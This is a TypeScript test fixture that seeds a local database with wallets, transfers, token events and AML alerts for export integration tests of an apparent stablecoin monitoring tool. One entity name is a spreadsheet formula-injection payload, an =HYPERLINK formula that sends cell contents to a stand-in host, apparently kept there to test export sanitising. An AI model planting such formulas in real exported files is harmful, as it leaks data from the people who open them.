// A small database for the export integration tests, with hand-checkable figures: one chain,
// three entities (one whose name is a formula), labels with tabs, line breaks and backslashes
// (COPY's escapes), mints and burns (one by a bridge pool), a freeze, a reconciliation, and two
// alerts with evidence for the goAML case.
import { sql } from "drizzle-orm";
import type { Db } from "@/db/client";
import { rebuildAttributionRollups } from "@/db/queries/rollups";
import {
  addresses,
  chains,
  entities,
  indexerCheckpoints,
  supplyReconciliations,
  tokenEvents,
  transfers,
} from "@/db/schema";

export const CHAIN = 31337;
export const E18 = 10n ** 18n;
export const A = (n: number) => `0x${n.toString(16).padStart(40, "0")}` as `0x${string}`;
const H = (n: number) => `0x${n.toString(16).padStart(64, "0")}` as `0x${string}`;
const ZERO = A(0);

export const W = {
  treasury: A(0x70),
  gulf: A(0xa1),
  pkBank: A(0xc1),
  pool: A(0xe1),
  customer: A(0x101),
  token: A(0x1d1),
} as const;

export const FORMULA_ENTITY = '=HYPERLINK("http://evil.example/?"&A1,"Gulf")';
export const TRICKY_LABEL = "hot\twallet\nline two \\ end";

/** [block, minute of 2025-03-01, log, from, to, USD1, wei tail, kind] */
const ROWS: [number, number, number, string, string, bigint, bigint, "mint" | "burn" | "transfer"][] = [
  [10, 0, 0, ZERO, W.treasury, 1_000_000n, 0n, "mint"],
  [11, 60, 0, W.treasury, W.gulf, 250_000n, 7n, "transfer"],
  [12, 120, 0, W.gulf, W.customer, 1_500n, 2n, "transfer"],
  [12, 120, 1, W.customer, W.pkBank, 1_499n, 0n, "transfer"],
  [13, 1440 + 30, 0, W.gulf, W.gulf, 10n, 0n, "transfer"],
  [14, 1440 + 90, 0, W.treasury, ZERO, 5_000n, 0n, "burn"],
  [15, 1440 + 120, 0, W.gulf, W.pool, 2_000n, 0n, "transfer"],
  [15, 1440 + 120, 1, W.pool, ZERO, 2_000n, 0n, "burn"],
];

export type ExportFixture = { alertIds: number[] };

export async function seedExportFixture(db: Db): Promise<ExportFixture> {
  await db.insert(chains).values({
    chainId: CHAIN,
    name: "Ethereum (local)",
    tokenAddress: A(0x8d),
    startBlock: 1n,
    confirmations: 0,
  });
  const ids = await db
    .insert(entities)
    .values([
      { name: FORMULA_ENTITY, kind: "exchange", country: "AE", licenceStatus: "licensed" },
      { name: "PK Bank", kind: "bank", country: "PK", licenceStatus: "licensed" },
      { name: "USD1 Treasury", kind: "issuer", country: "US", licenceStatus: "licensed" },
    ])
    .returning({ id: entities.id });
  const [gulf, bank, issuer] = ids.map((r) => r.id);
  await db.insert(addresses).values([
    { chainId: CHAIN, address: W.gulf, entityId: gulf!, label: TRICKY_LABEL, tags: ["hot_wallet"] },
    { chainId: CHAIN, address: W.pkBank, entityId: bank!, label: "-PK bank main", tags: [] },
    { chainId: CHAIN, address: W.treasury, entityId: issuer!, label: "Treasury", tags: ["treasury"] },
    { chainId: CHAIN, address: W.pool, entityId: null, label: "CCIP pool", tags: ["bridge"] },
  ]);
  const t0 = Date.parse("2025-03-01T00:00:00Z");
  await db.insert(transfers).values(
    ROWS.map(([block, minute, log, from, to, usd, tail, kind], i) => ({
      chainId: CHAIN,
      blockNumber: BigInt(block),
      blockTime: new Date(t0 + minute * 60_000),
      txHash: H(i + 1),
      logIndex: log,
      fromAddress: from as `0x${string}`,
      toAddress: to as `0x${string}`,
      amount: usd * E18 + tail,
      kind,
    })),
  );
  const event = (
    kind: "freeze" | "issuer_burn",
    block: number,
    minute: number,
    tx: number,
    actor: string,
    subject: string,
    amount: bigint | null,
  ) => ({
    chainId: CHAIN,
    blockNumber: BigInt(block),
    blockTime: new Date(t0 + minute * 60_000),
    txHash: H(tx),
    logIndex: 5,
    emitter: W.token,
    kind,
    actor: actor as `0x${string}`,
    subject: subject as `0x${string}`,
    amount,
    args: {},
  });
  await db
    .insert(tokenEvents)
    .values([
      event("issuer_burn", 15, 1440 + 120, 8, W.pool, W.pool, 2_000n * E18),
      event("freeze", 16, 2880, 99, W.treasury, W.customer, null),
    ]);
  await db.insert(indexerCheckpoints).values({ chainId: CHAIN, indexedBlock: 16n, rolledUpBlock: 16n });
  await db.transaction((tx) => rebuildAttributionRollups(tx as unknown as Db));
  const supply = (1_000_000n - 5_000n - 2_000n) * E18;
  await db.insert(supplyReconciliations).values({
    chainId: CHAIN,
    blockNumber: 16n,
    indexedSupply: supply,
    onchainSupply: supply,
    difference: 0n,
    matches: true,
  });
  return { alertIds: await seedAlerts(db, t0) };
}

/** Two alerts (R2 on the customer, R3 pass-through) with evidence transfers 3 and 4. */
async function seedAlerts(db: Db, t0: number): Promise<number[]> {
  await db.execute(sql`insert into monitor_checkpoints (chain_id, monitored_block) values (${CHAIN}, 16)`);
  const ids: number[] = [];
  for (const [key, rule, status, tx, log] of [
    ["fx:r2", "R2", "open", 3, 0],
    ["fx:r3", "R3", "escalated", 4, 1],
  ] as const) {
    const res =
      await db.execute(sql`insert into alerts (alert_key, rule_id, rule_version, logic_version, params, severity,
        score, status, status_reason, chain_id, subject, block_number, block_time, tx_hash, log_index, amount, addresses,
        entity_ids, explanation, facts)
      values (${key}, ${rule}, 2, 1, '{}', 'high', 70, ${status}, ${status === "escalated" ? "=1+1 per analyst" : null},
        ${CHAIN}, ${W.customer}, 12, ${new Date(t0 + 120 * 60_000).toISOString()}, ${H(tx)}, ${log}, ${(1_500n * E18).toString()},
        ${`{${W.customer}}`}::text[], '{}'::int[], ${`Rule ${rule} fired on the customer`}, '{}')
      returning id`);
    const id = Number((res as unknown as { rows: { id: string | number }[] }).rows[0]!.id);
    ids.push(id);
    for (const [etx, elog] of [
      [3, 0],
      [4, 1],
    ]) {
      await db.execute(sql`insert into alert_evidence (alert_id, chain_id, source, block_number, tx_hash, log_index, role)
        values (${id}, ${CHAIN}, 'transfer', 12, ${H(etx!)}, ${elog}, 'trigger')`);
    }
  }
  return ids;
}
